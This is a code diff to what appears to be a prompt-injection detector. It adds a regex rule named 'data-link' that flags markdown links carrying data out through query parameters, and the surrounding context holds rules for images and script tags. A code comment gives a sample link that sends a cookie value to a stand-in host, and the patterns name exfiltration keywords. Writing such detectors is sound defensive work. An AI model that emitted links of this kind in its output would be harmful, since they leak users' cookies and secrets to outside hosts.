@@ -22,6 +22,15 @@ export const COMMAND_MARKERS: readonly RoleMarkerPattern[] = [
 		pattern:
 			/!\[[^\]\n]{0,60}\]\(https?:[^)\s]{0,200}[[{<$][^)\n]{0,100}\)?|<img [^<>]{0,100}src=["']?https?:[^"'\s<>]{0,200}[{$[][a-z!]/iy,
 	},
+	{
+		// sample: "[View](https://host.example/collect?cookie=DOCUMENT_COOKIE)"
+		name: 'data-link',
+		what: 'has a link carry data out',
+		weight: 0.6,
+		heads: ['](http'],
+		pattern:
+			/\]\(https?:[^)\s?]{1,100}\?[^)\s=]{0,40}(?:=[^)\s&]{0,40}&[a-z_]{0,20})?(?:data|cookie|secret|leak|exfil|stolen)=[A-Z][A-Z_]{2,40}[&)]/y,
+	},
 	{ name: 'script-tag', what: 'carries a script', weight: 0.3, heads: ['<script', 'onerror='], pattern: /<script[\s>]|\bonerror=/iy },
 	{
 		name: 'script-image',
